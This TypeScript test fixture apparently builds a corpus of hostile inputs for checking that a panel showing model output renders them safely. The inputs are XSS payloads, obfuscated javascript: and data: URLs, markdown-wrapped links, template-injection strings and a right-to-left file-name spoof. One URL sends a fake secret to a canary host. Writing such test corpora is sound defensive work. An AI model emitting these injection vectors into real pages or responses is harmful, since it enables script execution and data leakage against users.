/**
 * Texts that a hostile model could answer: markup, scripts, addresses and images in every dress, made from families.
 *
 * Each would run a script (`window.hit`), or ask the canary server for something, if any part of the panel let it.
 */
const scripts = (canary: string): string[] => [
  `<script>window.hit=1</script>`,
  `<script src="${canary}/a.js"></script>`,
  `<img src=x onerror="window.hit=1">`,
  `<img src="${canary}/i.png">`,
  `<svg onload="window.hit=1"></svg>`,
  `<svg><script>window.hit=1</script></svg>`,
  `<svg><image href="${canary}/s.png"/></svg>`,
  `<iframe src="javascript:window.hit=1"></iframe>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<object data="${canary}/o"></object>`,
  `<embed src="${canary}/e">`,
  `<link rel="stylesheet" href="${canary}/c.css">`,
  `<link rel="prefetch" href="${canary}/p">`,
  `<meta http-equiv="refresh" content="0;url=${canary}/m">`,
  `<base href="${canary}/">`,
  `<form action="${canary}/f"><input autofocus onfocus="window.hit=1"></form>`,
  `<style>@import url("${canary}/s.css"); body{background:url("${canary}/b.png")}</style>`,
  `<div style="background-image:url('${canary}/d.png')">x</div>`,
  `<details open ontoggle="window.hit=1">x</details>`,
  `<video poster="${canary}/v.png" src="${canary}/v.mp4" autoplay></video>`,
  `<audio src="${canary}/a.mp3" autoplay></audio>`,
  `<math href="javascript:window.hit=1">x</math>`,
  `<body onload="window.hit=1">`,
  `<a href="javascript:window.hit=1">x</a>`,
  `<a href="${canary}/a" ping="${canary}/ping">x</a>`,
  `<template><script>window.hit=1</script></template>`,
  `<noscript><img src="${canary}/n.png"></noscript>`,
  `<textarea><script>window.hit=1</script></textarea>`,
  `<!--><script>window.hit=1</script>-->`,
  `<![CDATA[<script>window.hit=1</script>]]>`,
  `<?xml-stylesheet href="${canary}/x.xsl"?>`,
  `<isindex action="javascript:window.hit=1" type="submit">`,
  `<marquee onstart="window.hit=1">x</marquee>`,
  `<input type="image" src="${canary}/in.png">`,
  `<source srcset="${canary}/ss.png">`,
  `<portal src="${canary}/po"></portal>`,
];

const addresses = (canary: string): string[] => [
  "javascript:window.hit=1",
  "JaVaScRiPt:window.hit=1",
  "java\tscript:window.hit=1",
  " javascript:window.hit=1",
  "&#106;avascript:window.hit=1",
  "&#x6A;avascript&colon;window.hit=1",
  "javascript&#58;window.hit=1",
  "vbscript:msgbox(1)",
  "data:text/html,<script>window.hit=1</script>",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg onload='window.hit=1'/>",
  "blob:null/1",
  "file:///etc/passwd",
  `${canary}/x.png?secret=sk-1234`,
  `//${new URL(canary).host}/x.png`,
  `${canary.replace("http://", "http://good.example@")}/x`,
  `view-source:${canary}/x`,
  "ms-settings:",
  "smb://host/share",
  "#/requests?id=x",
  "../../health",
];

const frames = (address: string): string[] => [
  `[click](${address})`,
  `![image](${address})`,
  `[![image](${address})](${address})`,
  `<${address}>`,
  `[a]\n\n[a]: ${address}`,
  `![a][b]\n\n[b]: ${address} "title"`,
  `[x](<${address}>)`,
  `text ${address} text`,
  `[^1]\n\n[^1]: [x](${address})`,
  `| a |\n|---|\n| [x](${address}) |`,
  `> [x](${address})`,
  `- [ ] [x](${address})`,
];

const dresses: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `before ${text} after`,
  (text) => `> ${text}`,
  (text) => `- ${text}`,
  (text) => `| a |\n|---|\n| ${text} |`,
  (text) => `**${text}**`,
  (text) => `\`\`\`html\n${text}\n\`\`\``,
  (text) => `\`${text}\``,
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
];

const oddities = [
  "\u001b[31mred\u001b[0m \u001b]8;;http://x\u0007link\u001b]8;;\u0007",
  "\u202Egnp.exe\u202C invoice",
  "\u0000\u0001\u0002",
  "$$\\href{javascript:window.hit=1}{x}$$",
  "```mermaid\ngraph TD; A[<img src=x onerror=window.hit=1>]-->B\n```",
  "```svg\n<svg onload=window.hit=1>\n```",
  "{{constructor.constructor('window.hit=1')()}}",
  "${window.hit=1}",
  "<%= window.hit=1 %>",
  "%3Cscript%3Ewindow.hit=1%3C/script%3E",
  "\ud800\udc00\ud800",
  '[x](javascript:window.hit=1 "t" onclick=window.hit=1)',
];

export function hostileCorpus(canary: string): string[] {
  return [
    ...scripts(canary).flatMap((text) => dresses.map((dress) => dress(text))),
    ...addresses(canary).flatMap(frames),
    ...oddities,
  ];
}
